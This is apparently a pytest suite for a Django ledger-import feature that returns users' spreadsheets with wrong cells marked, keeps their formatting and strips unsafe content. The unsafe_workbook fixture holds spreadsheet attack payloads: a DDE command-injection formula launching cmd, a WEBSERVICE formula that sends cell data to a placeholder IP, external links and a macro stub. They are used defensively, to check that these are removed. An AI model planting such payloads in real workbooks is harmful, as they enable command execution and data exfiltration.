"""Giving the user's own workbook back with its wrong cells marked: in every format, and with nothing unsafe in it."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.conf import LazySettings
from django.test import Client
from django.urls import reverse
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from ledgers import jobs
from ledgers.importing import batches, giving_back
from ledgers.importing.content import WrongCell
from ledgers.importing.grid import ErrorCell
from ledgers.importing.own_sheets import PROBLEMS
from ledgers.importing.planner import match
from ledgers.importing.problems import SheetRejected
from ledgers.models import ImportBatch, Job, User
from ledgers.registry import ledgers
from nonpublic.models import Enterprise
from tests.conftest import Units
from tests.importing.conftest import FileMaker
from tests.importing.pages import act, checked, page
from tests.importing.workbooks import HEADERS, book, company, simple

SignIn = Callable[[User], Client]
MarkedMaker = Callable[..., Any]
RED = "FFC7CE"


def saved_bytes(workbook: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def errors_of(units: Units) -> Callable[[Path], list[WrongCell]]:
    """What importing the file finds wrong."""

    def find(path: Path) -> list[WrongCell]:
        read = batches.read_file(path, ledgers.get("enterprises"), unit=units.township, period=None)
        return match(read).errors

    return find


@pytest.fixture
def marked(saved: FileMaker, errors_of: Callable[[Path], list[WrongCell]], tmp_path: Path) -> MarkedMaker:
    """marked(content, name="ledger.xlsx") -> the workbook that is given back; nothing else is left on disk."""

    def mark(content: bytes, name: str = "ledger.xlsx", *more: WrongCell) -> openpyxl.Workbook:
        path = saved(content, name)
        target = tmp_path / "marked.xlsx"
        before = set(tmp_path.rglob("*"))
        giving_back.write_marked(path, [*errors_of(path), *more], target)
        assert set(tmp_path.rglob("*")) == before | {target}
        return openpyxl.load_workbook(target)

    return mark


def red_cells(sheet: Any) -> list[str]:
    return [
        cell.coordinate
        for row in sheet.iter_rows()
        for cell in row
        if str(cell.fill.start_color.rgb).endswith(RED)
    ]


def test_wrong_cells_are_coloured_and_say_what_to_do_on_every_sheet(marked: MarkedMaker) -> None:
    wrong = company(2, staff="许多", capital="=1+1")
    workbook = marked(
        book(("一村", [HEADERS, company(1), wrong]), ("二 村's", [HEADERS, company(3, "不存在村")]))
    )
    overview, first, second = workbook.worksheets
    assert [first.title, second.title] == ["一村", "二 村's"]
    assert red_cells(second) == ["A2"]
    assert "没有这个单位" in second["A2"].comment.text
    assert "不是数字" in first["E3"].comment.text or "无法识别" in first["E3"].comment.text
    assert (first["E3"].value, first["E2"].comment) == ("许多", None)

    assert overview["A1"].value == PROBLEMS
    lines = list(overview.iter_rows(min_row=5, values_only=True))
    assert [line[:3] for line in lines][-1] == ("二 村's", "A2", "所在村")
    assert {line[:2] for line in lines} >= {("一村", "E3"), ("二 村's", "A2")}
    links = {cell.value: cell.hyperlink.location for (cell,) in overview.iter_rows(5, min_col=2, max_col=2)}
    assert links["E3"] == "'一村'!E3"
    assert links["A2"] == "'二 村''s'!A2"
    assert all(cell.hyperlink.target is None for (cell,) in overview.iter_rows(5, min_col=2, max_col=2))
    # Typing into several selected sheets at once would write into all of them.
    assert [sheet.sheet_view.tabSelected for sheet in workbook.worksheets] == [True, False, False]


def office_workbook() -> openpyxl.Workbook:
    """A workbook with what offices put into it: formats, merges, hidden rows, formulas, comments, drop-downs."""
    workbook = openpyxl.load_workbook(io.BytesIO(book(("企业", [["东山镇企业台账"], HEADERS]))))
    sheet: Any = workbook.active
    for number in range(1, 7):
        sheet.append(company(number))
    sheet.merge_cells("A1:E1")
    sheet.merge_cells("A3:A4")
    sheet.merge_cells("D7:D8")
    sheet["A1"].font = Font(name="宋体", size=18, bold=True, color="FF0000")
    sheet["B3"].fill = PatternFill("solid", start_color="FFFF00")
    sheet["D5"].number_format = "#,##0.00"
    sheet["D3"] = "=100*3"
    sheet["E4"] = "许多"
    sheet["E4"].comment = Comment("去年也是这个数", "经办")
    sheet["E6"] = "不少"
    sheet.row_dimensions[6].hidden = True
    sheet.column_dimensions["B"].width = 44
    sheet.freeze_panes = "C3"
    drop_down = DataValidation(type="list", formula1='"上河村,下河村"')
    drop_down.add("A3:A20")
    sheet.add_data_validation(drop_down)
    return workbook


def test_the_users_own_workbook_keeps_its_looks(marked: MarkedMaker) -> None:
    # The village's name stands in the first of the merged cells, what is wrong with its second row does not.
    taken = WrongCell("企业", 3, "A4", "所在村", "与第3行是同一条记录。")
    workbook = marked(saved_bytes(office_workbook()), "ledger.xlsx", taken)
    overview, sheet = workbook.worksheets
    assert (sheet["A1"].font.sz, sheet["A1"].font.name) == (18, "宋体")
    assert sheet["B3"].fill.start_color.rgb == "00FFFF00"
    assert sheet["D5"].number_format == "#,##0.00"
    assert sheet["D3"].value == "=100*3"
    assert sorted(map(str, sheet.merged_cells.ranges)) == ["A1:E1", "A3:A4", "D7:D8"]
    assert (sheet.row_dimensions[6].hidden, sheet.column_dimensions["B"].width) == (True, 44)
    assert sheet.freeze_panes == "C3"
    assert sheet.data_validations.dataValidation[0].formula1 == '"上河村,下河村"'
    assert "去年也是这个数" in sheet["E4"].comment.text
    assert sheet["A3"].comment.text == "A4：与第3行是同一条记录。"
    assert {"A3", "E4", "E6", "D7"} == set(red_cells(sheet))
    said = {row[1]: row[3] for row in overview.iter_rows(min_row=5, values_only=True)}
    assert "隐藏" in said["E6"]
    assert "隐藏" not in said["E4"]


def unsafe_workbook() -> bytes:
    """One that would fetch and run things, or has text of ours to be turned into formulas."""
    workbook = office_workbook()
    sheet: Any = workbook.active
    sheet["F2"] = "=cmd|' /C calc'!A0"
    sheet["F2"].data_type = "s"
    sheet["F3"] = '=WEBSERVICE("http://192.0.2.1/"&B3)'
    sheet["F4"] = "=[1]别处!A1"
    sheet["G3"] = "主页"
    sheet["G3"].hyperlink = "file://192.0.2.1/share"
    workbook.defined_names["外部"] = DefinedName("外部", attr_text="[1]别处!$A$1")
    plain = saved_bytes(workbook)
    target = io.BytesIO()
    external = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
        '<sheetNames><sheetName val="别处"/></sheetNames></externalBook></externalLink>'
    )
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(io.BytesIO(plain)) as source, zipfile.ZipFile(target, "w") as copy:
        for name in source.namelist():
            content = source.read(name).decode()
            if name == "xl/_rels/workbook.xml.rels":
                link = f'Id="rX" Type="{relations}/externalLink" Target="externalLinks/externalLink1.xml"'
                content = content.replace("</Relationships>", f"<Relationship {link}/></Relationships>")
            if name == "xl/workbook.xml":
                reference = f'<externalReference xmlns:r="{relations}" r:id="rX"/>'
                references = f"<externalReferences>{reference}</externalReferences>"
                content = content.replace("<definedNames", f"{references}<definedNames")
            copy.writestr(name, content)
        copy.writestr("xl/vbaProject.bin", b"macro")
        copy.writestr("xl/externalLinks/externalLink1.xml", external)
        copy.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
            f' Id="rId1" Type="{relations}/externalLinkPath" Target="file://192.0.2.1/x.xlsx" TargetMode="External"/>'
            "</Relationships>",
        )
    return target.getvalue()


def test_nothing_that_reaches_outside_is_given_back(marked: MarkedMaker, tmp_path: Path) -> None:
    workbook = marked(unsafe_workbook())
    sheet = workbook.worksheets[1]
    formulas = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == ["=100*3"]
    assert (sheet["G3"].value, sheet["G3"].hyperlink, list(workbook.defined_names)) == ("主页", None, [])
    with zipfile.ZipFile(tmp_path / "marked.xlsx") as archive:
        assert [
            name for name in archive.namelist() if re.search(r"vba|externalLink|activeX|connections", name)
        ] == []
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"192.0.2.1" not in everything
    assert b'TargetMode="External"' not in everything


def test_our_own_text_never_becomes_a_formula(saved: FileMaker, tmp_path: Path) -> None:
    text = '=HYPERLINK("http://192.0.2.1")\x01'
    for kind in ("xlsx", "csv"):
        content = simple(company(1)) if kind == "xlsx" else b"a,b\n1,2\n"
        target = tmp_path / f"marked-{kind}.xlsx"
        sheet = "企业" if kind == "xlsx" else "CSV"
        giving_back.write_marked(saved(content, f"a.{kind}"), [WrongCell(sheet, 1, "A2", text, text)], target)
        overview = openpyxl.load_workbook(target).worksheets[0]
        assert [
            (overview.cell(5, column).value, overview.cell(5, column).data_type) for column in (3, 4)
        ] == [(text[:-1], "s")] * 2


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_a_csv_comes_back_as_a_workbook_with_the_same_cells(marked: MarkedMaker, encoding: str) -> None:
    rows = [HEADERS, company(1), company(2, staff="许多")]
    content = "\r\n".join(",".join(map(str, row)) for row in rows).encode(encoding)
    _, sheet = marked(content, "台账.csv").worksheets
    assert [[str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)] == [
        [str(value) for value in row] for row in rows
    ]
    assert red_cells(sheet) == ["E3"]
    assert sheet["E3"].comment.text


def test_an_old_xls_comes_back_with_its_merged_cells(saved: FileMaker, tmp_path: Path) -> None:
    path = Path(__file__).parent.parent / "data" / "quirks.xls"
    grids = {grid.name: grid for grid in giving_back.read_workbook(path).sheets}
    name, grid = next(iter(grids.items()))
    target = tmp_path / "marked.xlsx"
    giving_back.write_marked(path, [WrongCell(name, 1, "B2", "列", "问题。")], target)
    sheet = openpyxl.load_workbook(target)[name]
    assert red_cells(sheet) == ["B2"]
    for row, values in enumerate(grid.rows, start=1):
        for column, value in enumerate(values, start=1):
            found = sheet.cell(row, column).value
            if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
                value = dt.datetime.combine(value, dt.time())
            if isinstance(value, ErrorCell):
                assert found == "=NA()"
            elif value not in ("", None) and found is not None:
                assert found == value
    areas = {area.bounds for area in sheet.merged_cells.ranges}
    assert areas == {
        (left + 1, top + 1, right + 1, bottom + 1) for (top, left), (bottom, right) in grid.merged
    }


def test_a_workbook_that_openpyxl_cannot_write_comes_back_cell_by_cell(
    marked: MarkedMaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = simple(company(1), company(2, staff="许多"))
    runs: list[bool] = []
    run = giving_back._run

    def first_fails(order: dict[str, Any], folder: str, beat: Callable[[], None]) -> bool:
        runs.append(order["grids"] is None)
        return False if order["grids"] is None else run(order, folder, beat)

    monkeypatch.setattr(giving_back, "_run", first_fails)
    _, sheet = marked(content).worksheets
    assert runs == [True, False]
    assert red_cells(sheet) == ["E3"]


def test_too_much_memory_or_time_is_a_sentence_and_leaves_nothing(
    saved: FileMaker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(giving_back, "MEMORY_MEGABYTES", 40)
    path = saved(simple(*(company(number) for number in range(200))))
    with pytest.raises(SheetRejected, match="分成几个文件"):
        giving_back.write_marked(path, [WrongCell("企业", 1, "A2", "列", "问题。")], tmp_path / "marked.xlsx")
    assert list(tmp_path.iterdir()) == [path]


# --- On the pages -------------------------------------------------------------------------------------------


def kept_files(settings: LazySettings) -> list[str]:
    folder = Path(settings.MEDIA_ROOT) / "imports"
    return sorted(path.name.partition(".")[2] for path in folder.iterdir())


def fetch(client: Client, batch: ImportBatch) -> bytes:
    response = client.get(reverse("imports:marked", args=[batch.pk]))
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def test_the_marked_workbook_is_asked_for_corrected_and_handed_in(
    client: Client, units: Units, settings: LazySettings
) -> None:
    batch = checked(client, simple(company(1), company(2, staff="许多")), units)
    assert "在我的表格里标出错误" in page(client, batch)
    assert client.get(reverse("imports:marked", args=[batch.pk])).status_code == 404
    response = client.post(reverse("imports:marked", args=[batch.pk]))
    again = client.post(reverse("imports:marked", args=[batch.pk]))
    job = Job.objects.get(kind="import.mark")
    assert response["Location"] == again["Location"] == job.get_absolute_url()
    jobs.execute(str(job.pk))
    job.refresh_from_db()
    assert (job.state, job.result["url"]) == (Job.State.DONE, batch.get_absolute_url())
    assert "下载标出错误的表格" in page(client, batch)
    workbook = openpyxl.load_workbook(io.BytesIO(fetch(client, batch)))
    assert kept_files(settings) == ["marked.xlsx", "plan", "upload"]

    workbook["企业"]["E3"] = 12
    corrected = checked(client, saved_bytes(workbook), units)
    assert (corrected.counts["wrong"], corrected.counts["created"]) == (0, 2)
    assert [sheet["name"] for sheet in corrected.preview["sheets"]] == ["企业"]
    assert corrected.preview["left_out"] == []
    act(client, corrected, "confirm")
    assert Enterprise.objects.count() == 2
    act(client, batch, "cancel")
    assert kept_files(settings) == []
    assert client.get(reverse("imports:marked", args=[batch.pk])).status_code == 404


def test_a_new_reading_of_the_columns_makes_the_marked_workbook_stale(
    client: Client, units: Units, settings: LazySettings
) -> None:
    batch = checked(client, simple(company(1), company(2, staff="许多")), units)
    act(client, batch, "marked")
    assert kept_files(settings) == ["marked.xlsx", "plan", "upload"]
    columns = batch.preview["sheets"][0]["mapping"]
    said = {f"column-0-{column['index']}": column["field"] for column in columns}
    act(client, batch, "mapping", **said | {"column-0-4": ""})
    assert kept_files(settings) == ["plan", "upload"]
    # Nothing is wrong any more, and nothing is there to be marked.
    assert "标出错误" not in page(client, batch)
    assert (
        "没有重复处理"
        in client.post(reverse("imports:marked", args=[batch.pk]), follow=True).content.decode()
    )


def test_the_marked_workbook_is_nobody_elses(
    client: Client,
    signed_in: SignIn,
    account: Callable[..., User],
    officer: User,
    neighbour_officer: User,
    leader: User,
    units: Units,
) -> None:
    batch = checked(client, simple(company(1, staff="许多")), units)
    act(client, batch, "marked")
    url = reverse("imports:marked", args=[batch.pk])
    assert fetch(client, batch)
    for other in (neighbour_officer, leader, account(officer.role, units.township)):
        stranger = signed_in(other)
        assert stranger.get(url).status_code == 404
        assert stranger.post(url).status_code == 404
    assert Client().get(url).status_code == 302


def test_a_ledger_that_counts_name_lists_gives_nothing_back() -> None:
    counting = [ledger.slug for ledger in ledgers if not giving_back.gives_back(ledger)]
    assert {"population-returns", "ethnic-composition", "overseas-returns", "region-composition"} <= set(
        counting
    )
    assert giving_back.gives_back(ledgers.get("enterprises"))
